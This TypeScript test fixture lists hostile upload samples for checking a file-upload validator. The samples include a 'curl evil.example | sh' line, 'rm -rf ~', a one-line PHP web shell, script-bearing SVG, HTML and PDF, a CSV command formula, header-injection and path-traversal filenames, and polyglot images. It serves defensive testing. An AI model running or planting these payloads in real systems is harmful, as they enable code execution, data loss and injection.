/** A file that tries to harm a reader, and the code of the required refusal. */
export interface HostileFile {
  readonly title: string;
  readonly name: string;
  readonly bytes: Buffer;
  /**
   * The database refuses the name or the size before the upload. The edge function refuses the content after it. A
   * harmless file is accepted, because it is only ever saved as a file.
   */
  readonly result:
    | 'refused by name'
    | 'type_refused'
    | 'type_mismatch'
    | 'unsafe_content'
    | 'harmless';
}

const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const html = '<!DOCTYPE html><html><script>alert(1)</script></html>';
const png = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489',
  'hex',
);
const jpeg = Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex');
const gif = Buffer.from('GIF89a\x01\0\x01\0', 'latin1');
const pdf = Buffer.from(
  '%PDF-1.7\n1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert(1))>>>> endobj\n%%EOF',
);
const program = Buffer.from(`MZ\x90\0${'\0'.repeat(60)}PE\0\0`, 'latin1');

/** The end of a ZIP file without entries. */
const zipEnd = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(26), zipEnd]);
const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]);
const mp4 = Buffer.from('00000018667479706d703432', 'hex');

/** A deflated block of zeros: 1 MB in about 1 KB. A ZIP bomb has many of them. */
const bomb = Buffer.concat([zip.subarray(0, 30), Buffer.alloc(100_000, 'PK\x01\x02'), zipEnd]);

const text = (value: string) => Buffer.from(value);
const utf16 = (value: string) => Buffer.from(`\ufeff${value}`, 'utf16le');

type Row = readonly [HostileFile['result'], title: string, name: string, bytes: Buffer];

const rows: readonly Row[] = [
  ['refused by name', 'an SVG with a script', 'logo.svg', text(svg)],
  ['refused by name', 'a web page', 'page.html', text(html)],
  ['refused by name', 'an XHTML page', 'page.xhtml', text(html)],
  ['refused by name', 'a Windows program', 'setup.exe', program],
  [
    'refused by name',
    'a program with a picture extension before its own',
    'photo.jpg.exe',
    program,
  ],
  ['refused by name', 'a shell script', 'run.sh', text('#!/bin/sh\nrm -rf ~')],
  ['refused by name', 'a Windows shortcut', 'invoice.pdf.lnk', text('L')],
  ['refused by name', 'a document with macros', 'offer.docm', zip],
  ['refused by name', 'a file without an extension', 'README', text('text')],
  ['refused by name', 'an empty file', 'empty.txt', Buffer.alloc(0)],
  ['refused by name', 'a name of 10,000 characters', `${'n'.repeat(10_000)}.txt`, text('text')],
  [
    'refused by name',
    'a program whose name reads from right to left',
    'photo\u202egpj.exe',
    program,
  ],
  ['type_refused', 'a program as a PDF', 'offer.pdf', program],
  ['type_refused', 'a program as a text', 'notes.txt', program],
  [
    'type_refused',
    'a Linux program as a ZIP file',
    'site.zip',
    Buffer.from('\x7fELF\x02\x01\x01', 'latin1'),
  ],
  [
    'type_refused',
    'a Java class as a picture',
    'photo.png',
    Buffer.from('cafebabe00000034', 'hex'),
  ],
  ['type_refused', 'a script as a text', 'notes.txt', text('#!/bin/sh\ncurl evil.example | sh')],
  ['type_refused', 'an SVG as a picture', 'logo.png', text(svg)],
  [
    'type_refused',
    'an SVG with an XML declaration as a picture',
    'logo.jpg',
    text(`<?xml version="1.0"?>\n${svg}`),
  ],
  ['type_refused', 'a web page as a PDF', 'offer.pdf', text(`\n  ${html}`)],
  ['type_refused', 'a web page as a table', 'prices.csv', text(html)],
  ['type_refused', 'a PHP page as a text', 'notes.txt', text('<?php system($_GET["c"]);')],
  ['type_mismatch', 'a ZIP file as a picture', 'photo.png', zip],
  ['type_mismatch', 'a web page in UTF-16 as a picture', 'photo.png', utf16(html)],
  ['type_mismatch', 'a PDF as a picture', 'photo.jpg', pdf],
  ['type_mismatch', 'a video as a PDF', 'offer.pdf', mp4],
  [
    'type_mismatch',
    'random bytes as a document',
    'letter.docx',
    Buffer.from('00ff00ff00ff00ff', 'hex'),
  ],
  ['unsafe_content', 'a JPEG that is also a ZIP file', 'photo.jpg', Buffer.concat([jpeg, zip])],
  ['unsafe_content', 'a GIF that is also a Java archive', 'photo.gif', Buffer.concat([gif, zip])],
  ['unsafe_content', 'a PDF that is also a ZIP file', 'offer.pdf', Buffer.concat([pdf, zip])],
  [
    'unsafe_content',
    'a GIF that is also a script',
    'photo.gif',
    Buffer.concat([gif, text('<script>alert(1)</script>')]),
  ],
  ['unsafe_content', 'a PNG with a web page', 'photo.png', Buffer.concat([png, text(html)])],
  ['harmless', 'a PDF with a script', 'offer.pdf', pdf],
  ['harmless', 'a ZIP bomb', 'bomb.zip', bomb],
  ['harmless', 'an old Office file with a macro', 'letter.doc', ole],
  ['harmless', 'a table with a formula', 'prices.csv', text('=cmd|" /C calc"!A0,1')],
  [
    'harmless',
    'a name with quotation marks and line breaks',
    'a"; filename="x.html\r\nSet-Cookie: a.txt',
    text('text'),
  ],
  ['harmless', 'a name that leaves the folder', '../../etc/passwd.txt', text('text')],
];

export const hostileFiles: readonly HostileFile[] = rows.map(([result, title, name, bytes]) => ({
  result,
  title,
  name,
  bytes,
}));
